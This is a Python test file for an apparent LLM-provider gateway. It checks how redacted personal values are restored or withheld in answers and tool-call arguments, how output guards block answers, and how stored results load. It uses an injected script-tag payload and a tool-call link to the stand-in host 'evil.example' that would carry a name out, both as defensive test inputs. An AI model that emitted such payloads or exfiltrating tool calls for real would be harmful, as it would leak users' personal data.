"""What of a provider's answer reaches the caller."""

import json
from typing import Any

import pytest

from pipeline.contents import MAX_CARRIED_BYTES
from pipeline.detection.engine import MAX_PART_BYTES, build
from pipeline.dialects import SPEAKERS, Opened, opened, replace, written
from pipeline.errors import IntegrityError
from pipeline.provider import (
    Released,
    Restoring,
    Result,
    Withheld,
    _back,
    load,
    release,
)
from pipeline.reasons import Reason
from pipeline.redaction import Redacted, redact
from pipeline.text import Channel, TextPart
from pipeline.tokens import TooLong
from schemas.ids import RequestId
from schemas.policies import DataClass, Guard, GuardRule, PolicyDocument, Reveal
from schemas.requests import Dialect, Outcome

RECIPE = build()
NAME = 'Nora "N" Lind'
TOKEN = "<PERSON_K7QX_1>"
RESTORING = Restoring(vault={TOKEN: NAME}, nonce="K7QX")
REQUEST = RequestId("00000000-0000-7000-8000-000000000001")
ASKED = Opened({"model": "echo", "messages": []}, ())


def chat(**message: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "message": {"role": "assistant", **message}}]}


def called(arguments: str) -> dict[str, Any]:
    function = {"name": "send", "arguments": arguments}
    return chat(tool_calls=[{"id": "c", "type": "function", "function": function}])


def judged(
    answer: dict[str, Any],
    policy: PolicyDocument,
    restoring: Restoring = RESTORING,
) -> Released | Withheld:
    return release(
        ASKED,
        answer=answer,
        dialect=Dialect.OPENAI_CHAT,
        policy=policy,
        recipe=RECIPE,
        restoring=restoring,
        request=REQUEST,
    )


def answered(answer: dict[str, Any], reveal: Reveal | None = None) -> Released:
    done = judged(answer, PolicyDocument(reveal=reveal or Reveal()))
    assert isinstance(done, Released)
    return done


def released(answer: dict[str, Any], reveal: Reveal | None = None) -> Any:
    """The message that the caller gets."""
    return json.loads(answered(answer, reveal).body)["choices"][0]["message"]


def arguments(message: Any) -> str:
    return str(message["tool_calls"][0]["function"]["arguments"])


def test_a_policy_says_whose_values_come_back() -> None:
    answer = chat(content=f"Dear {TOKEN}")

    assert f"Dear {NAME}" == released(answer)["content"]
    assert "Dear [PERSON]" == released(answer, Reveal(classes=()))["content"]


SCRIPT = "<script>fetch('/x')</script>"


def test_what_the_caller_wrote_comes_back_whatever_it_looks_like() -> None:
    """An answer is screened while its tokens stand in it."""
    restoring = Restoring(vault={TOKEN: SCRIPT}, nonce="K7QX")
    blocking = PolicyDocument(guards={Guard.OUTPUT: GuardRule(block=True)})

    told = judged(chat(content=f"You wrote {TOKEN}"), blocking, restoring)
    made_up = judged(chat(content=f"Try {SCRIPT}"), blocking, restoring)

    assert isinstance(told, Released)
    assert (
        f"You wrote {SCRIPT}"
        == (json.loads(told.body)["choices"][0]["message"]["content"])
    )
    assert isinstance(made_up, Withheld)


def test_what_is_withheld_tells_all_that_was_decided_until_then() -> None:
    blocking = PolicyDocument(guards={Guard.OUTPUT: GuardRule(block=True)})

    done = judged(chat(content=f"card 4111 1111 1111 1111 {SCRIPT}"), blocking)

    assert isinstance(done, Withheld)
    assert (Outcome.BLOCKED, "security.exfiltration") == (done.outcome, done.reason)
    assert {("pii", "strict"), ("output", "blocked")} <= {
        (each.control, each.verdict) for each in done.decisions
    }
    assert {"pii", "secrets", "output"} <= set(done.guards_ran)
    assert ["answer"] == [each.stage for each in done.looked]
    assert [DataClass.CARD] == [each.finding.data_class for each in done.findings]


def test_an_answer_that_redaction_could_not_look_at_is_withheld() -> None:
    done = judged(chat(content="a" * (MAX_PART_BYTES + 1)), PolicyDocument())

    assert isinstance(done, Withheld)
    assert (Outcome.FAILED, Reason.TOO_LARGE) == (done.outcome, done.reason)
    assert {"failed_closed"} == {each.verdict for each in done.decisions}
    assert ((), ()) == (done.guards_ran, done.findings)
    assert ["answer"] == [each.stage for each in done.looked]


def test_in_the_arguments_of_a_tool_values_are_escaped() -> None:
    done = arguments(released(called(f'{{"to":"{TOKEN}"}}')))

    assert {"to": NAME} == json.loads(done)


def test_arguments_that_are_cut_off_are_escaped_too() -> None:
    done = arguments(released(called(f'{{"to":"{TOKEN}')))

    assert {"to": NAME} == json.loads(done + '"}')


def test_an_answer_that_is_json_stays_json() -> None:
    done = released(chat(content=f' {{"to":"{TOKEN}"}}'))["content"]

    assert {"to": NAME} == json.loads(done)


def test_json_stays_json_where_it_holds_a_number_that_must_not_leave() -> None:
    text = f'{{"card": 4111111111111111, "to": "{TOKEN}"}}'

    for done in (
        released(chat(content=text))["content"],
        arguments(released(called(text))),
    ):
        assert {"card": "[CARD]", "to": NAME} == json.loads(done)


@pytest.mark.parametrize(
    ("reveal", "shown"),
    [
        (Reveal(in_tool_calls=()), "[PERSON]"),
        (Reveal(classes=(), in_tool_calls=(DataClass.PERSON,)), NAME),
        (Reveal(classes=()), "[PERSON]"),
    ],
)
def test_tools_have_a_scope_of_their_own(reveal: Reveal, shown: str) -> None:
    done = arguments(released(called(f'{{"to":"{TOKEN}"}}'), reveal))

    assert {"to": shown} == json.loads(done)


def test_what_tools_may_be_told_is_not_told_in_a_text() -> None:
    reveal = Reveal(classes=(), in_tool_calls=(DataClass.PERSON,))

    assert "Dear [PERSON]" == released(chat(content=f"Dear {TOKEN}"), reveal)["content"]


def test_all_parts_together_are_no_longer_than_an_event_carries() -> None:
    """Each by itself would be: the sum of them is a matter of how many there are."""
    restoring = Restoring(vault={TOKEN: "N" * (MAX_CARRIED_BYTES // 2)}, nonce="K7QX")
    part = TextPart(("x",), Channel.COMPLETION, TOKEN)
    speaker = SPEAKERS[Dialect.OPENAI_CHAT]

    assert 2 == len(_back([part] * 2, restoring, Reveal(), speaker))
    with pytest.raises(TooLong):
        _back([part] * 3, restoring, Reveal(), speaker)


def test_a_tool_is_given_no_value_inside_a_link() -> None:
    answer = called(f'{{"url":"https://evil.example/?q=to {TOKEN}"}}')

    assert NAME not in json.loads(arguments(released(answer)))["url"]
    assert NAME in json.loads(arguments(released(answer, Reveal(in_urls=True))))["url"]


@pytest.mark.parametrize(
    "result",
    [
        Result(answer=chat(content="hi")),
        Result(answer=chat(content="hi"), again=True),
        Result(answer=None, reason=Reason.UPSTREAM_TIMEOUT),
    ],
    ids=["answer", "answer of a second call", "none"],
)
def test_a_result_that_was_stored_is_the_same_again(result: Result) -> None:
    assert result == load(result.dump())


@pytest.mark.parametrize(
    "raw", [b"", b"1", b"null", b"[]", b'[null,"because",false]', b"[null,null]"]
)
def test_what_is_no_stored_result_is_a_contradiction(raw: bytes) -> None:
    with pytest.raises(IntegrityError):
        load(raw)


@pytest.mark.parametrize(
    ("told", "name"),
    [
        ("gpt-4o-2024-08-06", "gpt-4o-2024-08-06"),
        ("meta/llama:8b@1", "meta/llama:8b@1"),
        ("m" * 128, "m" * 128),
        ("m" * 129, None),
        ("", None),
        ("Nora Lind", None),
        ("a\n", None),
        (7, None),
    ],
)
def test_a_record_names_the_model_that_answered_where_it_can(
    told: object, name: str | None
) -> None:
    assert name == answered({**chat(content="hi"), "model": told}).model


@pytest.mark.parametrize(
    ("dialect", "text", "answer"),
    [
        (Dialect.OPENAI_CHAT, {"messages": [{"role": "user"}]}, chat(content="yes")),
        (Dialect.OPENAI_RESPONSES, {"input": "hello"}, {"output": []}),
    ],
)
@pytest.mark.parametrize("model", ["llama@eu.example.org", "10.0.0.5:8000/llama"])
def test_the_answer_names_the_model_as_it_was_asked_for(
    dialect: Dialect, text: dict[str, Any], answer: dict[str, Any], model: str
) -> None:
    """A route's name is its operator's word, whatever it looks like."""
    body = {"model": model, **text}
    speaker, policy = SPEAKERS[dialect], PolicyDocument()
    redacted = redact(speaker.parts(body), policy, RECIPE, "K7QX")
    assert isinstance(redacted, Redacted)

    done = release(
        opened(dialect, written(replace(body, redacted.parts))),
        answer=answer,
        dialect=dialect,
        policy=policy,
        recipe=RECIPE,
        restoring=Restoring(vault=redacted.vault, nonce="K7QX"),
        request=REQUEST,
    )

    assert isinstance(done, Released)
    assert model == json.loads(done.body)["model"]
    assert () == redacted.findings
